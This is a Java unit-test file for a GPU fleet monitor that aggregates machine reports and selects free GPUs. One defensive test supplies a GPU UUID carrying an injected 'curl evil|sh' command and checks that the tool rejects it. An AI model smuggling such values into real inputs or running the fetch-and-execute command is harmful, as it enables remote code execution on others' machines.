package io.gpulse.fleet;

import static io.gpulse.fleet.GpuClass.FREE;
import static io.gpulse.fleet.GpuClass.HELD_IDLE;
import static io.gpulse.fleet.GpuClass.TROUBLE;
import static io.gpulse.fleet.GpuClass.UNKNOWN;
import static io.gpulse.fleet.GpuClass.WORKING;
import static org.assertj.core.api.Assertions.assertThat;

import io.gpulse.event.message.Messages;
import io.gpulse.fleet.FleetResponse.Answer;
import io.gpulse.fleet.FleetResponse.Member;
import io.gpulse.selection.FreeGpu;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.util.unit.DataSize;
import reactor.core.publisher.Mono;
import reactor.test.scheduler.VirtualTimeScheduler;
import tools.jackson.databind.json.JsonMapper;

/** Several machines as one answer. */
class FleetTests {

    private final VirtualTimeScheduler time = VirtualTimeScheduler.create();
    private final Map<String, Mono<MachineReport>> answers = new HashMap<>();
    private MachineReport local = Reports.of("here", WORKING, FREE);
    private @Nullable Machines machines;
    private final Engine engine = new Engine(null, "", Reports.time(this.time));

    @AfterEach
    void stop() {
        if (this.machines != null) {
            this.machines.stop();
        }
    }

    private Fleet fleet(String... addresses) {
        return fleet(new MachineList(List.of(addresses), null));
    }

    private Fleet fleet(MachineList list) {
        this.machines = new Machines(
                list,
                (address) -> Mono.defer(() -> this.answers.getOrDefault(address.label(), Mono.never())),
                Reports.time(this.time));
        this.machines.start();
        pass(1);
        return new Fleet(() -> this.local, this.machines, this.engine, Reports.NO_PAST);
    }

    private void pass(int seconds) {
        this.time.advanceTimeBy(Duration.ofSeconds(seconds));
    }

    private static FleetFreeQuery wanting(int count, @Nullable String memory, @Nullable String model) {
        return new FleetFreeQuery(count, memory == null ? null : DataSize.parse(memory), model);
    }

    @Test
    void unknownFreeMemoryIsTooLittle() {
        EngineSeries series = new EngineSeries() {};
        series.now("DCGM_FI_DEV_GPU_UTIL", "UUID=GPU-b", 0).now("DCGM_FI_DEV_FB_USED", "UUID=GPU-b", 0);
        series.with(EngineQuestion.HIGHEST, "", "UUID=GPU-b", 0);
        this.answers.put("b:1", Mono.just(series.present().get(0).report()));
        this.local = Reports.of("login");
        Fleet fleet = fleet("b:1");
        assertThat(fleet.free(wanting(1, null, null), true).machines()).hasSize(1);
        assertThat(fleet.free(wanting(1, "1B", null), true).machines()).isEmpty();
    }

    @Test
    void aMachineThatIsSilentHarmsNoOther() {
        this.answers.put("b:1", Mono.just(Reports.of("b", WORKING, HELD_IDLE)));
        this.answers.put("c:1", Mono.error(() -> new MachineException(Messages.text("fleet.unreachable"))));
        Fleet fleet = fleet("a:1", "b:1", "c:1");

        assertThat(fleet.all(true).machines())
                .extracting(Member::id, Member::answer)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("", Answer.LOCAL),
                        org.assertj.core.groups.Tuple.tuple("http://a:1", Answer.WAITING),
                        org.assertj.core.groups.Tuple.tuple("http://b:1", Answer.OK),
                        org.assertj.core.groups.Tuple.tuple("http://c:1", Answer.SILENT));
        assertThat(fleet.all(true).machinesUnknown()).isEqualTo(2);
        assertThat(fleet.all(true).gpus())
                .containsEntry(WORKING, 2)
                .containsEntry(FREE, 1)
                .containsEntry(HELD_IDLE, 1);
    }

    @Test
    void aMachineThatIsSilentKeepsItsLastReportUntilItAnswersAgain() {
        this.answers.put("b:1", Mono.just(Reports.of("b", WORKING, HELD_IDLE)));
        Fleet fleet = fleet("b:1");
        this.answers.put("b:1", Mono.error(() -> new MachineException(MachineException.late(MachineClient.TIMEOUT))));
        pass(5);
        Member silent = fleet.all(true).machines().get(1);
        assertThat(silent.answer()).isEqualTo(Answer.SILENT);
        assertThat(silent.problem()).isEqualTo("It did not answer within 3 s.");
        assertThat(silent.since()).isEqualTo(Reports.AT.plusSeconds(5));
        assertThat(silent.machine().gpus()).extracting(MachineGpu::use).containsExactly(UNKNOWN, UNKNOWN);
        assertThat(silent.machine().gpus().get(0).utilization()).isEqualTo(97);

        pass(30);
        assertThat(fleet.all(true).machines().get(1).since()).isEqualTo(Reports.AT.plusSeconds(5));
        this.answers.put("b:1", Mono.just(Reports.of("b", WORKING)));
        pass(5);
        assertThat(fleet.all(true).machines().get(1).answer()).isEqualTo(Answer.OK);
    }

    @Test
    void aMachineIsRequestedAgainOnlyAfterItsAnswer() {
        int[] requests = new int[1];
        this.answers.put("a:1", Mono.<MachineReport>never().doOnSubscribe((subscription) -> requests[0]++));
        fleet("a:1");

        pass(60);

        assertThat(requests[0]).isEqualTo(1);
    }

    @Test
    void theListMayHaveThisMachineAndMachinesOfOneName() {
        this.answers.put("a:1", Mono.just(this.local));
        this.answers.put("b:1", Mono.just(Reports.run("1", "twin", WORKING)));
        this.answers.put("c:1", Mono.just(Reports.run("2", "twin", WORKING)));

        assertThat(fleet("a:1", "b:1", "c:1").all(true).machines())
                .extracting(Member::name)
                .containsExactly("here", "twin (b:1)", "twin (c:1)");
    }

    @Test
    void aGpuThatTwoMachinesReportCountsOnceButASimulatedOneTwice() {
        this.answers.put("a:1", Mono.just(Reports.of("a", List.of(Reports.gpu(0, "GPU-here0", WORKING)))));
        this.answers.put("b:1", Mono.just(Reports.simulated("b", Reports.gpu(0, "GPU-demo", WORKING))));
        this.answers.put("c:1", Mono.just(Reports.simulated("c", Reports.gpu(0, "GPU-demo", WORKING))));

        assertThat(fleet("a:1", "b:1", "c:1").all(true).gpus())
                .containsEntry(WORKING, 3)
                .containsEntry(FREE, 1);
    }

    @Test
    void aMachineWithoutGpusIsListedOnlyWhenItIsAlone() {
        this.local = Reports.of("login");
        this.answers.put("a:1", Mono.just(Reports.of("a", WORKING)));

        assertThat(fleet("a:1").all(true).machines()).extracting(Member::name).containsExactly("a");
        assertThat(fleet().all(true).machines()).extracting(Member::name).containsExactly("login");
        assertThat(fleet().all(true).configured()).isFalse();
    }

    @Test
    void usersOfOtherMachinesNeedAScope() {
        MachineReport report = Reports.of("a", WORKING);
        MachineReport ailing = new MachineReport(
                "i", "a", "1", Reports.AT, 1L, false, null, null, report.gpus(), List.of(Reports.alert("gpu-lost", 0)));
        this.answers.put("a:1", Mono.just(ailing));
        Fleet fleet = fleet("a:1");

        String with = JsonMapper.shared()
                .writeValueAsString(fleet.all(true).machines().get(1));
        String without = JsonMapper.shared()
                .writeValueAsString(fleet.all(false).machines().get(1));
        String free = JsonMapper.shared().writeValueAsString(fleet.free(wanting(1, null, null), false));

        assertThat(with).contains("mchen", "280678", "train.py", "Fell off the bus");
        assertThat(without).doesNotContain("mchen", "280678", "train.py").contains("Fell off the bus", "已从总线掉线");
        assertThat(free).contains("GPU-here1");
        assertThat(JsonMapper.shared()
                        .writeValueAsString(fleet.all(false).machines().get(0)))
                .contains("mchen");
    }

    @Test
    void freeGpusAreOfOneMachineTheFullestFirstAndAnAilingOneLast() {
        this.answers.put("a:1", Mono.just(Reports.of("a", FREE, FREE, FREE, FREE)));
        this.answers.put("b:1", Mono.just(Reports.of("b", FREE, WORKING, FREE, HELD_IDLE)));
        this.answers.put("c:1", Mono.just(Reports.of("c", FREE, FREE, TROUBLE)));
        Fleet fleet = fleet("a:1", "b:1", "c:1");

        FleetFreeResponse found = fleet.free(wanting(2, null, "h100"), true);

        assertThat(found.machines()).extracting(FleetFreeResponse.Place::name).containsExactly("b", "a", "c");
        FleetFreeResponse.Place best = found.machines().get(0);
        assertThat(best.chosen()).extracting(FreeGpu::index).containsExactly(0, 2);
        assertThat(best.environment()).isEqualTo("CUDA_DEVICE_ORDER=PCI_BUS_ID CUDA_VISIBLE_DEVICES=GPU-b0,GPU-b2");
        assertThat(found.heldIdle()).extracting((held) -> held.gpu().uuid()).containsExactly("GPU-b3");
        assertThat(fleet.free(wanting(2, null, null), false).summary()).hasSize(2);
        assertThat(fleet.free(wanting(2, "81GB", null), true).machines()).isEmpty();
        assertThat(fleet.free(wanting(1, null, "A100"), true).machines()).isEmpty();
    }

    @Test
    void aMachineUnderTwoAddressesIsListedOnce() {
        this.answers.put("a:1", Mono.just(Reports.of("a", FREE, FREE)));
        this.answers.put("b:1", Mono.just(Reports.of("a", FREE, FREE)));
        Fleet fleet = fleet("a:1", "b:1");

        assertThat(fleet.all(true).machines()).hasSize(2);
        assertThat(fleet.free(wanting(2, null, null), true).machines()).hasSize(1);
    }

    @Test
    void aMachineAnswersByTheAddressThatWorks() {
        this.answers.put("a:1", Mono.just(Reports.of("a", FREE)));
        this.answers.put("b:1", Mono.just(Reports.of("a", FREE)));
        Fleet fleet = fleet("a:1", "b:1");
        this.answers.put("a:1", Mono.error(() -> new MachineException(MachineException.late(MachineClient.TIMEOUT))));
        pass(5);

        assertThat(fleet.all(true).machines()).extracting(Member::id).containsExactly("", "http://b:1");
    }

    @Test
    void anAgeThatCannotBeIsNotKnown() {
        for (long age : new long[] {Long.MAX_VALUE, -1}) {
            MachineReport wrong = new MachineReport("i", "a", null, null, age, false, null, null, List.of(), List.of());
            this.answers.put("a:1", Mono.just(wrong));

            assertThat(fleet("a:1").all(true).machines().get(1).ageMillis()).isNull();
        }
    }

    @Test
    void aGpuCountsWithTheMachineThatAnswers() {
        this.answers.put("a:1", Mono.just(Reports.of("a", List.of(Reports.gpu(0, "GPU-x", WORKING)))));
        this.answers.put("b:1", Mono.just(Reports.of("b", List.of(Reports.gpu(0, "GPU-x", WORKING)))));
        Fleet fleet = fleet("a:1", "b:1");
        this.answers.put("a:1", Mono.error(() -> new MachineException(MachineException.late(MachineClient.TIMEOUT))));
        pass(5);

        assertThat(fleet.all(true).gpus()).containsEntry(WORKING, 2).containsEntry(UNKNOWN, 0);
    }

    @Test
    void anAnswerThatNoRequestConfirmsIsNone() {
        this.answers.put("a:1", Mono.just(Reports.of("a", FREE)));
        Fleet fleet = fleet("a:1");
        assertThat(fleet.all(true).machines().get(1).ageMillis()).isEqualTo(1400L);
        this.answers.put("a:1", Mono.never());
        pass(20);

        assertThat(fleet.all(true).machines().get(1).answer()).isEqualTo(Answer.SILENT);
        assertThat(fleet.free(wanting(1, null, null), true).machines())
                .extracting(FleetFreeResponse.Place::name)
                .containsExactly("here");
    }

    @Test
    void aUuidThatAShellWouldInterpretIsNoneAndItsGpuIsNotOffered() {
        this.answers.put("a:1", Mono.just(Reports.of("a", List.of(Reports.gpu(0, "GPU-1;curl evil|sh", FREE)))));
        Fleet fleet = fleet("a:1");

        assertThat(fleet.all(true).machines().get(1).machine().gpus().get(0).uuid())
                .isNull();
        assertThat(fleet.free(wanting(1, null, null), true).machines())
                .extracting(FleetFreeResponse.Place::name)
                .containsExactly("here");
    }

    @Test
    void gpusOfASilentMachineAreNotFree() {
        this.answers.put("a:1", Mono.just(Reports.of("a", FREE, FREE)));
        Fleet fleet = fleet("a:1");
        this.answers.put("a:1", Mono.error(() -> new MachineException(MachineException.late(MachineClient.TIMEOUT))));
        pass(5);

        assertThat(fleet.free(wanting(2, null, null), true).machines()).isEmpty();
    }

    @Test
    void aListThatBecomesWrongStaysAsItWasAndIsReported(@TempDir Path folder) throws Exception {
        Path file = Files.writeString(folder.resolve("machines"), "a:1\n");
        this.answers.put("a:1", Mono.just(Reports.of("a", WORKING)));
        Fleet fleet = fleet(new MachineList(List.of(), file));
        Files.writeString(file, "a:1\nhttp://\n");
        pass(5);

        assertThat(fleet.all(true).listProblem()).startsWith("gpulse.machines-file: ");
        assertThat(fleet.all(true).machines()).hasSize(2);

        Files.writeString(file, "a:1\nb:1\n# two");
        pass(5);
        assertThat(fleet.all(true).listProblem()).isNull();
        assertThat(fleet.all(true).machines())
                .extracting(Member::answer)
                .containsExactly(Answer.LOCAL, Answer.OK, Answer.WAITING);
    }
}
